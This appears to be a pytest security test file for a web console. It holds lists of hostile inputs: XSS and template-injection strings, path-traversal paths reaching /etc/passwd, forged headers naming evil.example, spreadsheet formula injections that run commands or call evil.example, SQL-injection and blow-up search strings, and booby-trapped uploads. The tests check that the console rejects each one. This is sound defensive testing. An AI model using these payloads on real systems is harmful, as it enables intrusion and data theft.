"""Realistic attacks on the console, at least ten of each kind with what stands elsewhere: its output,
who may see what, forged forms, sessions, exports, uploads, the evidence browser, and searches that
try to explode. Elsewhere: `tests/web/test_scope_property.py` (every address and change),
`tests/web/test_signin.py` (tokens and sessions), `tests/web/test_console_guard.py` (headers,
output), `tests/evidence/test_hostile_sites.py` and `tests/evidence/test_browser.py`.
"""

# ruff: noqa: E501  an attack stands on one line, as it was written

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from io import BytesIO, StringIO
from urllib.parse import quote, urlencode
from zipfile import ZipFile

import pytest
from PIL import Image
from selectolax.lexbor import LexborHTMLParser

from classifiers.expressions import ExpressionError, Text, matches, parse
from connectors.errors import ConnectorError
from monitor.export import as_csv, as_xlsx
from monitor.intake import screenshots
from monitor.sample.personas import PERSONAS
from monitor.web.app import create_app
from monitor.web.deps import SampleLinks
from tests.doubles import inprocess
from tests.doubles.consoles import Scene, empty_scene
from tests.doubles.inprocess import Asker
from tests.doubles.written_posts import Written

OUTPUT = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title></textarea></style><svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "{{7*191}}{% raw %}${7*191}#{7*191}",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "\u202e\u2066<b>txt.exe\u2069",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script-->",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
)
FOREIGN = (
    "script",
    "img",
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "math",
    "form[action*='//']",
)


RUN = ("javascript:", "data:", "vbscript:")
BOOKMARKLET = "javascript:void(open('http://127.0.0.1/share?"


def dangers(page: str) -> list[str]:
    """What a browser would run, load or follow that is none of ours."""
    tree = LexborHTMLParser(page)
    found = [
        node.html or ""
        for tag in FOREIGN
        for node in tree.css(tag)
        if not (node.attributes.get("src") or "").startswith(("/static/", "/mentions/"))
    ]
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            address = re.sub(r"[\s\x00]", "", value or "").casefold()
            is_own = address.startswith(BOOKMARKLET)
            if name.startswith("on") or (address.startswith(RUN) and not is_own):
                found.append(f"{name}={value}")
            if name == "http-equiv":
                found.append(node.html or "")
    return found + re.findall("1337", page)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    """A console whose every post is an attack."""
    with empty_scene(tmp_path_factory.mktemp("attacked")) as scene:
        for evil in OUTPUT:
            more = {
                "title": evil,
                "text": f"a shambles {evil} at Oakenhall {evil}",
                "platform": evil[:30],
            }
            scene.add(
                Written(
                    text="{reputation|a shambles without end} at {@oakenhall|Oakenhall}",
                    author=evil, handle=f"@{evil}", url=f"https://a.example/{evil}",
                    sure={"reputation": 0.99}, more=more,
                )
            )  # fmt: skip
        yield scene


@contextmanager
def asking(scene: Scene, whose: str = "pr") -> Iterator[Asker]:
    links = SampleLinks(mailbox_url="http://127.0.0.1:8640/", personas=PERSONAS)
    app = create_app(scene.console(links=links))
    app.state.token = "same"
    with inprocess.asking(app, persona=whose) as client:
        yield client


@pytest.fixture(scope="module")
def client(attacked: Scene) -> Iterator[Asker]:
    with asking(attacked) as opened:
        yield opened


@pytest.mark.parametrize("at", range(len(OUTPUT)))
def test_what_others_wrote_stays_text(client: Asker, at: int) -> None:
    here = f"/mentions/{at + 1}"
    form = {"token": "same", "outcome": "open_case", "state": "open", "note": OUTPUT[at]}
    pages = [client.get("/?state=all"), client.get(here), client.post(f"{here}/reveal", data=form)]
    case = client.post(f"{here}/decision", data=form).headers.get("location", "/cases")
    pages += [client.get(case), client.get("/cases"), client.get("/deliveries")]
    for page in pages:
        assert page.status_code == 200
        assert dangers(page.text) == []


@pytest.mark.parametrize("evil", OUTPUT)
def test_what_is_asked_is_never_repeated_raw(client: Asker, evil: str) -> None:
    asked = quote(evil)
    for path in (f"/?q={asked}&school={asked}", f"/mentions/{asked}", f"/help/{asked}", f"/rules?try={asked}",
                 f"/digests?kind={asked}&to={asked}", f"/audit?who={asked}", f"/share?link={asked}&title={asked}"):  # fmt: skip
        answer = client.get(path)
        assert answer.status_code < 500
        assert dangers(answer.text) == []


ACCESS = (
    ("staff", "GET", "/mentions/1"), ("staff", "GET", "/export.csv"), ("it", "GET", "/mentions/1"),
    ("it", "GET", "/?q=shambles"), ("it", "GET", "/export.xlsx"), ("dpo", "GET", "/mentions/1"),
    ("dpo", "POST", "/mentions/1/decision"), ("headteacher", "POST", "/mentions/1/decision"),
    ("headteacher", "GET", "/audit"), ("headteacher", "GET", "/deliveries"),
    ("safeguarding", "POST", "/deliveries/1/resend"), ("pr", "GET", "/audit"), ("pr", "GET", "/requests"),
    ("executive", "POST", "/requests"), ("staff", "POST", "/silences"), ("it", "POST", "/bulk/decide"),
    ("headteacher", "POST", "/mentions/1/hold"), ("staff", "GET", "/cases/1"), ("it", "GET", "/cases"),
    ("pr", "POST", "/setup"), ("../pr", "GET", "/audit"), ("PR", "GET", "/audit"),
)  # fmt: skip


@pytest.mark.parametrize(("whose", "method", "path"), ACCESS)
def test_a_role_reaches_nothing_of_anothers(
    attacked: Scene, whose: str, method: str, path: str
) -> None:
    with asking(attacked, whose) as opened:
        answer = opened.request(method, path, data={"token": "same"} if method == "POST" else None)
    assert answer.status_code in (303, 403, 404), answer.status_code
    assert answer.status_code != 303 or not re.match(
        r"/(mentions|cases)/", answer.headers["location"]
    )
    assert "shambles" not in answer.text


PATHS = (
    "/audit/",
    "/./audit",
    "/%61udit",
    "/audit%00",
    "/audit;a=b",
    "/AUDIT",
    "/audit?",
    "/sources/../audit",
    "/static/../audit",
    "/static/..%2f..%2fapp.py",
    "/static/%2e%2e/app.py",
    "/help/../../../../etc/passwd",
    "/help/..%2f..%2fpyproject",
    "/mentions/1/../../audit",
)


@pytest.mark.parametrize("path", PATHS)
def test_no_other_spelling_of_an_address_leads_around_the_guard(attacked: Scene, path: str) -> None:
    with asking(attacked, "it") as opened:
        answer = opened.get(path, follow_redirects=True)
    assert answer.status_code in (403, 404)
    assert "root:" not in answer.text


FORGED = (
    {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "none"},
    {"Sec-Fetch-Site": "Same-Origin"}, {"Sec-Fetch-Site": "same-origin, cross-site"}, {"Sec-Fetch-Site": ""},
    {"Origin": "https://evil.example"}, {"Origin": "null"}, {"Origin": "http://127.0.0.1:1"},
    {"Origin": "http://127.0.0.1.evil.example"}, {"Origin": "http://127.0.0.1@evil.example"},
    {"Origin": "file://"}, {"Host": "evil.example"}, {"Host": "127.0.0.1.evil.example"},
    {"Host": "127.0.0.1", "Origin": "http://localhost"},
)  # fmt: skip


@pytest.mark.parametrize("headers", FORGED)
def test_a_forged_form_changes_nothing_even_with_the_token(
    client: Asker, attacked: Scene, headers: dict[str, str]
) -> None:
    form = {"token": "same", "phrase": "shut", "reason": "evil", "until": "month"}
    answer = client.post("/silences", data=form, headers=headers)
    assert answer.status_code in (400, 403)
    assert "evil" not in client.get("/silences").text


TOKENS = (
    "",
    "x",
    "same ",
    " same",
    "SAME",
    "same\x00",
    "ѕame",
    "s" * 5000,
    "[]",
    "null",
    "same&token=same",
)


@pytest.mark.parametrize("token", TOKENS)
def test_a_form_with_a_made_up_token_changes_nothing(client: Asker, token: str) -> None:
    form = {"phrase": "shut", "reason": "evil", "until": "month", "token": token}
    assert client.post("/silences", data=form).status_code == 403
    assert client.post("/silences?token=same", data={**form, "token": token}).status_code == 403
    as_json = client.post("/silences", json={**form, "token": "same"})
    assert as_json.status_code == 403
    assert "evil" not in client.get("/silences").text


CELLS = (
    "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1+1)*cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://evil.example","x")', '"\n=1+1', ";=1+1", ",=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "\u200b=1+1", "＝1+1", "%0A=1+1", "http://evil.example/",
)  # fmt: skip


@pytest.mark.parametrize("cell", CELLS)
def test_no_cell_of_an_export_computes_or_splits(cell: str) -> None:
    rows = list(csv.reader(StringIO(as_csv([(cell,)]).decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    (kept,) = rows[1]
    assert not re.match(r"[\s\ufeff\u200b]*[=+\-@＝]", kept)
    with ZipFile(BytesIO(as_xlsx([(cell,)]))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
        assert not [name for name in book.namelist() if "external" in name.lower()]


EXPRESSIONS = (
    " OR ".join(["aaa*"] * 30), " ".join(["aaa* NEAR/20 aaa*"] * 14), "(" * 500 + "a" + ")" * 500, "NOT " * 500 + "a",
    " OR ".join(["(aaa NOT (aaa OR aab))"] * 9), '"aaa aaa aaa aaa aaa aaa aaa aaa aaa aaa aaa aaa aaa"',
    "a" * 100_000, "a " * 50_000, '"' * 1001, "(a OR " * 300, "*" * 200, "a NEAR/99999999 b", "a NEAR/-1 b", "(a AND b) NEAR/3 " * 40,
    '"a" NEAR/20 ' * 60 + "a", "\x00 OR \udcff", "mention_words : a", 'a" UNION SELECT * FROM session --', "aaa* NOT " * 30 + "a",
)  # fmt: skip
LONG = Text("aaa aaaa aab " * 1600)


@pytest.mark.parametrize("written", EXPRESSIONS)
def test_no_search_explodes_or_reaches_the_database_raw(client: Asker, written: str) -> None:
    try:
        expression = parse(written)
    except ExpressionError:
        pass
    else:
        matches(expression, LONG)
    asked = written.encode("utf-8", "replace").decode()[:6000]
    answer = client.get(f"/?{urlencode({'q': asked, 'state': 'all'})}")
    assert answer.status_code in (200, 422), answer.status_code
    assert "session" not in answer.text or "session" in asked


def drawn(size: tuple[int, int] = (40, 30), kind: str = "PNG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


UPLOADS = {
    "a script": b"<script>alert(1)</script>",
    "a vector picture": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a page behind a mark": b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>",
    "an animation": b"GIF89a" + b"\0" * 300,
    "a document": b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>",
    "an archive": b"PK\x03\x04" + b"\0" * 300,
    "a program": b"\x7fELF\x02\x01\x01" + b"\0" * 300,
    "a cut picture": drawn()[:60],
    "an empty file": b"",
    "a lie about its size": drawn().replace(
        b"IHDR\0\0\0(\0\0\0\x1e", b"IHDR\x7f\xff\xff\xff\x7f\xff\xff\xff"
    ),
    "a bitmap": drawn(kind="BMP"),
    "a photograph of a camera's own": drawn(kind="TIFF"),
    "a postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(x) run",
    "a picture of no height": drawn().replace(b"\0\0\0\x1e", b"\0\0\0\0"),
}


@pytest.mark.parametrize("what", UPLOADS)
def test_what_is_no_picture_of_the_three_kinds_is_never_taken(what: str) -> None:
    with pytest.raises(ConnectorError):
        screenshots.check([UPLOADS[what]])
